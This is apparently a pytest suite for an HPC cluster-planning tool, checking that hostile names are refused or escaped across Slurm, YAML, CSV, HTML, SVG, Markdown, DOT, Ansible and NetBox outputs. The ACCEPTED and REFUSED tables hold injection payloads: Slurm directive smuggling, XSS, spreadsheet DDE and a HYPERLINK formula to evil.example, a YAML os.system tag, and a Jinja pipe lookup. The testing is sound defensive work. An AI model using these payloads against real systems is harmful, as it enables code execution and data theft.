"""Hostile names: each is refused where it is read, with its place (exit 2), or goes through every
output (plan.json, BOM, topology, racks, report, Slurm, Ansible, NetBox) and leaves the structure
of each file as it is with a plain name: the same Slurm keys line by line, the same YAML shape, the
same CSV columns with no formula, the same XML/HTML elements and attributes, the same Markdown
blocks and inlines, and a DOT file that `dot` renders to the same SVG elements.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html import escape as html_escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import ValidationError

from primeflex_iac import Catalog, CatalogError, Plan, SpecError, load_catalog, parse_spec_text, solve
from primeflex_iac.cli.main import main
from primeflex_iac.common.escape import config_comment, config_word, csv_cell, dot_label, markdown_text, one_line, xml_text
from primeflex_iac.export import yamltext
from primeflex_iac.export.cluster import platforms
from primeflex_iac.export.netbox import netbox_files
from primeflex_iac.export.targets import export_files
from primeflex_iac.plan.pareto import SweepResult
from primeflex_iac.render.bom import BOM_COLUMNS
from primeflex_iac.render.bundle import render_bundle
from primeflex_iac.render.pareto import pareto_svg
from tests.conftest import ROOT
from tests.export.test_exporters import _slurm_folder, _slurmd_gres
from tests.export.tools import ANSIBLE_INVENTORY, SLURMD, ansible_inventory_list

SPEC = """apiVersion: primeflex-iac/v1
name: plain
compute: {gpus: 32, min_gpu_memory: 32 GB}
site: {cooling: air, racks: {max: 20, height: 42U, power_per_rack: 20 kW}}
storage: {capacity: 300 TiB}
preferences: {fabrics: [ib-edr], as_of: 2019-06}
"""

# accepted at the input (printable, one line) and escaped in every output
ACCEPTED = {
    "slurm-directive": "x SlurmctldHost=evil Include /etc/x",
    "include": "Include /etc/x",
    "html": "<b onclick=alert(1)>bold</b>",
    "html-like-id": "<<TABLE><TR><TD HREF='javascript:alert(1)'>x</TD></TR></TABLE>>",
    "javascript-url": "javascript:alert(document.cookie)",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "trailing-backslash": "name\\",
    "quotes": '\'"`‘’“”«»\\"',
    "markdown-link": "[x](javascript:alert(1)) ![i](http://evil/x.png) **b** _i_ `c` | a | ~~s~~",
    "markdown-block": "# heading",
    "yaml": "&anchor *alias !!python/object:os.system [a, {b: c}] # c: d",
    "jinja": "{{ lookup('pipe', 'id') }} {% if x %}",
    "dot": '"]; evil [label="x"]; a -- b; //',
    "entity": "&lt;script&gt; &#106;avascript:",
    "long": "<" * 120,
    "unicode": "Ünïcödé 名前 ☃",
}

# refused at the input, at the name's line
REFUSED = {
    "newline": "x\nSlurmctldHost=evil",
    "carriage-return": "x\rInclude /etc/x",
    "nul": "nul\x00byte",
    "tab": "tab\there",
    "escape": "bell\x07\x1b[31m",
    "rtl-override": "invoice\u202egnp.exe",
    "zero-width": "zero\u200bwidth",
    "line-separator": "a\u2028b",
    "huge": "n" * 20_000,
}

_plans: dict[str, Plan] = {}


def _plain(catalog: Catalog) -> Plan:
    if "plain" not in _plans:
        _plans["plain"] = solve(parse_spec_text(SPEC), catalog)
        assert _plans["plain"].status == "optimal"
    return _plans["plain"]


def _renamed(plan: Plan, catalog: Catalog, name: str) -> tuple[Plan, Catalog]:
    """The plan and catalog with ``name`` everywhere a name reaches an output from data."""
    entry = plan.compute[0]
    assert plan.fabric is not None
    compute = [entry.model_copy(update={"node_name": name, "gpu_name": name})]
    bom = [line.model_copy(update={"item": name, "cost_source": name, "power_source": name}) for line in plan.bom]
    software = [s.model_copy(update={"name": name}) for s in plan.software]
    renamed = plan.model_copy(
        update={
            "name": name,
            "message": f"{name} message",
            "compute": compute,
            "fabric": plan.fabric.model_copy(update={"name": name}),
            "bom": bom,
            "software": software,
            "assumptions": [name, *plan.assumptions],
            "warnings": [name],
        }
    )
    # through plan.json, as `render` and `export` read it: every accepted name is accepted there too
    renamed = Plan.model_validate_json(renamed.to_json())
    fabric_switch = plan.fabric.switch
    items = {
        "servers": {entry.node: catalog.servers[entry.node].model_copy(update={"name": name, "source": name})},
        "gpus": {entry.gpu: catalog.gpus[entry.gpu].model_copy(update={"name": name})},
        "switches": {fabric_switch: catalog.switches[fabric_switch].model_copy(update={"name": name})},
    }
    hostile_catalog = catalog.model_copy(update={k: {**getattr(catalog, k), **v} for k, v in items.items()})
    return renamed, hostile_catalog


def _outputs(plan: Plan, catalog: Catalog) -> dict[str, str]:
    files, warnings = render_bundle(plan)
    assert not warnings, warnings  # `dot` ran: a DOT file it could not read would raise
    text = {name: data for name, data in files.items() if isinstance(data, str)}
    return text | {f"export/{path}": data for path, data in export_files(plan, "all", catalog).items()}


# --- shapes of each format -------------------------------------------------------------------


def _slurm_shape(text: str) -> list[object]:
    shape: list[object] = []
    for line in text.splitlines():
        if not line.strip():
            shape.append("")
        elif line.startswith("#"):
            shape.append("#")
        else:
            tokens = line.split()
            assert all("=" in token for token in tokens), line
            shape.append(tuple(token.split("=", 1)[0] for token in tokens))
    return shape


class _Loader(yaml.SafeLoader):
    pass


_Loader.add_constructor("!unsafe", lambda loader, node: loader.construct_scalar(node))  # type: ignore[arg-type, attr-defined]


def _yaml_shape(data: Any) -> Any:
    if isinstance(data, dict):
        return {key: _yaml_shape(value) for key, value in data.items()}
    if isinstance(data, list):
        return [_yaml_shape(item) for item in data]
    return type(data).__name__


def _yaml_file_shape(text: str) -> tuple[int, Any]:
    comments = sum(1 for line in text.splitlines() if line.startswith("#"))
    return comments, _yaml_shape(yaml.load(text, Loader=_Loader))


def _xml_shape(text: str) -> list[tuple[str, tuple[str, ...]]]:
    root = ET.fromstring(text.encode())
    return [(element.tag, tuple(sorted(element.attrib))) for element in root.iter()]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.values += [value or "" for _, value in attrs]


def _html_shape(text: str) -> list[tuple[str, tuple[str, ...]]]:
    parser = _Tags()
    parser.feed(text)
    parser.close()
    assert not any(value.strip().lower().startswith("javascript:") for value in parser.values)
    return parser.tags


def _markdown_shape(text: str) -> list[tuple[str, str]]:
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is in the test extra")
    parser = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    shape: list[tuple[str, str]] = []
    for token in parser.parse(text):
        shape.append((token.type, token.tag))
        shape += [(child.type, child.tag) for child in token.children or ()]
    return shape


def _csv_shape(text: str) -> list[int]:
    rows = list(csv.reader(io.StringIO(text)))
    text_columns = [i for i, column in enumerate(BOM_COLUMNS) if column in ("category", "item", "cost_source", "power_source")]
    for row in rows[1:]:
        for index in text_columns:
            assert not row[index].lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), row[index]
    return [len(row) for row in rows]


def _shape(path: str, text: str) -> object:
    if path.startswith("export/slurm/"):
        return _slurm_shape(text)
    if path.endswith(".yaml"):
        return _yaml_file_shape(text)
    if path.endswith(".svg"):
        return _xml_shape(text)
    if path.endswith(".html"):
        return _html_shape(text)
    if path.endswith(".md"):
        return _markdown_shape(text)
    if path.endswith(".csv"):
        return _csv_shape(text)
    if path.endswith(".json"):
        return _yaml_shape(json.loads(text))
    if path.endswith(".gv"):
        return len(text.splitlines())  # one statement a line; `dot` read it (render_bundle)
    raise AssertionError(f"no shape for {path}")


def _by_shape(files: dict[str, str]) -> dict[str, object]:
    """Shapes by path; device types by catalog id (their file names are slugs of their names)."""
    renamed = {
        path: "export/netbox/device-types/" + yaml.safe_load(text)["comments"].split()[3].rstrip(";")
        for path, text in files.items()
        if "/device-types/" in path
    }
    return {renamed.get(path, path): _shape(path, text) for path, text in files.items()}


@pytest.mark.parametrize("name", list(ACCEPTED.values()), ids=list(ACCEPTED))
def test_an_accepted_name_changes_no_output_structure(name: str, catalog: Catalog) -> None:
    plain = _plain(catalog)
    baseline_plan, baseline_catalog = _renamed(plain, catalog, "plain name")
    hostile_plan, hostile_catalog = _renamed(plain, catalog, name)
    baseline = _by_shape(_outputs(baseline_plan, baseline_catalog))
    hostile = _by_shape(_outputs(hostile_plan, hostile_catalog))
    assert sorted(hostile) == sorted(baseline)
    for path, shape in baseline.items():
        assert hostile[path] == shape, path


def _outside_quotes(dot: str) -> str:
    """The DOT text outside double-quoted strings (a backslash escapes the next character inside)."""
    outside, quoted, escaped = [], False, False
    for char in dot:
        if quoted:
            escaped, quoted = (False, True) if escaped else (char == "\\", char != '"')
        elif char == '"':
            quoted = True
        else:
            outside.append(char)
    return "".join(outside)


def test_the_pictures_carry_no_link_or_script(catalog: Catalog) -> None:
    plan, hostile_catalog = _renamed(_plain(catalog), catalog, ACCEPTED["html-like-id"])
    files = _outputs(plan, hostile_catalog)
    # one HTML-like label, the graph's (the heading over the legend), in which a name is only text:
    # its own tags taken out, no '<' or '>' is left, and the name is there as entities
    html = [line for line in _outside_quotes(files["topology.gv"]).splitlines() if "<" in line]
    assert len(html) == 1 and html[0].strip().startswith("label=<<TABLE "), html
    assert not set(re.sub(r"</?(TABLE|TR|TD|FONT|BR)\b[^<>]*>", "", html[0].strip()[7:-1])) & {"<", ">"}
    assert html_escape(ACCEPTED["html-like-id"]) in html[0]
    for path in ("topology.svg", "racks.svg"):
        for element in ET.fromstring(files[path].encode()).iter():
            assert element.tag.rsplit("}", 1)[-1] not in ("a", "script", "foreignObject"), path
            assert not any(name.endswith("href") or name.startswith("on") for name in element.attrib), path
    parser = _Tags()
    parser.feed(files["report.html"])
    assert not {tag for tag, _ in parser.tags} & {"a", "script", "iframe", "b"}
    assert not any(name.endswith("href") or name.startswith("on") for _, names in parser.tags for name in names)


def test_csv_cells_starting_with_a_formula_are_text(catalog: Catalog) -> None:
    plan, _ = _renamed(_plain(catalog), catalog, ACCEPTED["dde"])
    rows = list(csv.DictReader(io.StringIO(render_bundle(plan, pictures=False)[0]["bom.csv"])))  # type: ignore[arg-type]
    assert {row["item"] for row in rows} == {"'" + ACCEPTED["dde"]}


def test_catalog_items_of_one_name_keep_their_own_netbox_device_types(catalog: Catalog) -> None:
    plan = _plain(catalog)
    assert plan.fabric is not None
    fabric, management = plan.fabric.switch, plan.fabric.management_switch
    same_names = catalog.model_copy(
        update={
            # an overlay's own copy of a product: no devicetype-library type
            "switches": {
                **catalog.switches,
                fabric: catalog.switches[fabric].model_copy(update={"name": "Twin", "netbox": None}),
            },
            "management_switches": {
                **catalog.management_switches,
                management: catalog.management_switches[management].model_copy(update={"name": "Twin"}),
            },
        }
    )
    files = netbox_files(plan, same_names)
    types = {path: yaml.safe_load(text) for path, text in files.items() if path.startswith("device-types/")}
    used = {d.catalog_id for r in plan.racks for d in r.devices}
    # compute and head node share the devicetype-library's PRIMERGY RX2540 M5; the PDUs add a type
    assert len(types) == len(used) - 1 + 1
    models = [kind["model"] for kind in types.values()]
    assert len(set(models)) == len(models)
    assert sorted(m for m in models if m.startswith("Twin")) == [f"Twin ({fabric})", f"Twin ({management})"]
    # devices name the type by model: each device type named is one of the files
    devices = yaml.safe_load(files["devices.yaml"])
    assert {d["device_type"] for d in devices} <= set(models)


# --- refused at the input ----------------------------------------------------------------------


@pytest.mark.parametrize("name", list(REFUSED.values()), ids=list(REFUSED))
def test_a_refused_spec_name_is_located(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = SPEC.replace("name: plain", f"name: {json.dumps(name)}")
    with pytest.raises(SpecError) as error:
        parse_spec_text(text, "spec.yaml")
    (problem,) = error.value.problems
    assert (problem.line, problem.path) == (2, "name")
    spec = tmp_path / "spec.yaml"
    spec.write_text(text)
    assert main(["validate", str(spec)]) == 2
    assert "spec.yaml:2:" in capsys.readouterr().err


@pytest.mark.parametrize("name", [REFUSED["newline"], REFUSED["rtl-override"], REFUSED["huge"]])
def test_a_refused_overlay_name_is_located_in_the_overlay(name: str, tmp_path: Path) -> None:
    overlay = tmp_path / "names.yaml"
    overlay.write_text(
        f"apiVersion: primeflex-iac/v1\nkind: CatalogOverlay\ngpus:\n  t4:\n    name: {json.dumps(name)}\n    price: 2000\n"
    )
    with pytest.raises(CatalogError) as error:
        load_catalog([overlay])
    (problem,) = error.value.problems
    assert (problem.file, problem.line, problem.path) == (str(overlay), 5, "gpus.t4.name")


def test_long_ids_and_workload_names_are_refused(catalog: Catalog) -> None:
    with pytest.raises(SpecError, match="workloads"):
        parse_spec_text(SPEC + f"workloads: [{{name: {'w' * 65}, model: resnet50, time_to_model: 8 h}}]\n")
    gpu = catalog.gpus["t4"]
    for bad in ("t" * 65, "T4", "t4 x", "t4\n", "-t4"):
        with pytest.raises(ValidationError, match="id"):
            type(gpu).model_validate({**gpu.model_dump(), "id": bad})


@pytest.mark.parametrize(
    "device",
    [
        "cn001\nSlurmctldHost=evil",
        "cn001\n",
        "cn001 Include=/etc/x",
        "<b>cn001</b>",
        "cn001\\",
        "cn-",
        "c" * 64,
        "cn\u202e001",
        "",
    ],
)
@pytest.mark.parametrize("command", ["export", "render"])
def test_a_hand_edited_plan_with_a_bad_device_name_is_refused(
    device: str, command: str, catalog: Catalog, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(_plain(catalog).to_json())
    data["racks"][0]["devices"][0]["name"] = device
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    assert main([command, str(path), "-o", str(tmp_path / "out")]) == 2
    assert "racks.0.devices.0.name" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


# --- the helpers -------------------------------------------------------------------------------


def test_escaping_helpers() -> None:
    assert one_line("a\nb\x00c\u202ed") == "a b c d"
    assert config_comment("# x \\\\") == "# x "
    assert config_word("cn001") == "cn001"
    for word in ("cn001,evil", "cn[001-002]", "cn001 Include", "cn001\n", ""):
        with pytest.raises(ValueError, match="Slurm"):
            config_word(word)
    assert one_line("x" * 50, 10) == "x" * 9 + "…"
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(" @x") == "' @x" and csv_cell("1-2") == "1-2"
    assert xml_text("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;"
    assert markdown_text("[x](javascript:y) <i>") == "\\[x\\](javascript:y) &lt;i&gt;"
    assert markdown_text("# h") == "\\# h" and markdown_text("1. x") == "1\\. x"
    assert dot_label("a\\", "<b>") == "a\\\\\\n<b>"


# --- the tools read them as data --------------------------------------------------------------


def test_ansible_keeps_template_looking_names_as_text(catalog: Catalog) -> None:
    plan, hostile_catalog = _renamed(_plain(catalog), catalog, ACCEPTED["jinja"])
    inventory = export_files(plan, "ansible", hostile_catalog)["ansible/inventory.yaml"]
    assert f"primeflex_cluster: !unsafe {json.dumps(ACCEPTED['jinja'])}" in inventory


@pytest.mark.needs_tool
@pytest.mark.skipif(SLURMD is None, reason="Slurm's slurmd is not installed (apt-get install slurmd; CI has it)")
def test_slurmd_reads_the_config_of_a_hostile_name(catalog: Catalog, tmp_path: Path) -> None:
    plan, hostile_catalog = _renamed(_plain(catalog), catalog, ACCEPTED["slurm-directive"] + " \\")
    files = {path.removeprefix("slurm/"): text for path, text in export_files(plan, "slurm", hostile_catalog).items()}
    folder = _slurm_folder(tmp_path, files, plan.compute[0].gpus_per_node)
    result = _slurmd_gres(folder, platforms(plan)[0].hosts[0])
    assert result.returncode == 0, result.stderr
    assert "evil" not in result.stdout + result.stderr


@pytest.mark.needs_tool
@pytest.mark.skipif(ANSIBLE_INVENTORY is None, reason="ansible-core is not installed (it is in the test extra)")
def test_ansible_inventory_reads_a_hostile_name_as_text(catalog: Catalog, tmp_path: Path) -> None:
    name = ACCEPTED["jinja"] + " " + ACCEPTED["yaml"]
    plan, hostile_catalog = _renamed(_plain(catalog), catalog, name)
    result = ansible_inventory_list(export_files(plan, "ansible", hostile_catalog)["ansible/inventory.yaml"], tmp_path)
    assert result.returncode == 0, result.stderr
    listed = json.loads(result.stdout)
    first = platforms(plan)[0].hosts[0]
    # kept as text: ansible-inventory marks it unsafe (never templated) rather than rendering it
    assert listed["_meta"]["hostvars"][first]["primeflex_cluster"] in (name, {"__ansible_unsafe": name})
    assert set(listed["_meta"]["hostvars"]) == {h for p in platforms(plan) for h in p.hosts} | {
        "head01",
        "oss01",
        "oss02",
        "switch01",
        "mgmt01",
    }


# --- YAML laid out as PyYAML writes it -----------------------------------------------------------

_SCALARS = [
    *ACCEPTED.values(),
    *REFUSED.values(),
    "",
    " x",
    "x ",
    "a: b",
    "a:b",
    "cn001:ib0",
    "x:",
    "x\n",
    "x\r",
    "x\u2029",
    "yes",
    "No",
    "null",
]
_SCALARS += ["~", "1e3", "0x1F", "1:20", "2019-01-01", "007", "1_000", ".inf", "-", "?", "? x", "|", ">", "%x", "x #y"]
_SCALARS += ["(x)", "x, y", "port1/2", "y" * 300, 1.5, 1e20, float("inf"), True, False, None, 7, -3]


def _pyyaml(data: Any, ansible: bool) -> str:
    return yamltext._dump(data, yamltext._AnsibleDumper if ansible else yamltext._Dumper)


@pytest.mark.parametrize("ansible", [False, True])
def test_yaml_is_laid_out_as_pyyaml_writes_it(ansible: bool) -> None:
    for value in _SCALARS:
        key = value if isinstance(value, str) else "k"
        for data in ([{"k": value, "n": [value, {"z": value}], "e": [], "d": {}}], {"top": {key: value, "x": [value]}}):
            assert yamltext.yaml_text(data, templates=not ansible) == _pyyaml(data, ansible), repr(value)


def test_golden_yaml_reads_back_to_the_same_text() -> None:
    for path in sorted((ROOT / "tests" / "golden" / "exports").rglob("*.yaml")):
        text = path.read_text()
        body = "".join(line for line in text.splitlines(keepends=True) if not line.startswith("#"))
        ansible = path.parent.name == "ansible"
        assert yamltext.yaml_text(yaml.safe_load(body), templates=not ansible) == body, path


@pytest.mark.filterwarnings("ignore:No artists with labels")  # a sweep without points has no legend
def test_a_name_is_never_mathtext_in_the_sweep_plot() -> None:
    svg = pareto_svg(SweepResult("costs $x^$ and $\\frac{1}{$", "w", "USD", []))
    assert ET.fromstring(svg.encode()).tag.endswith("svg")
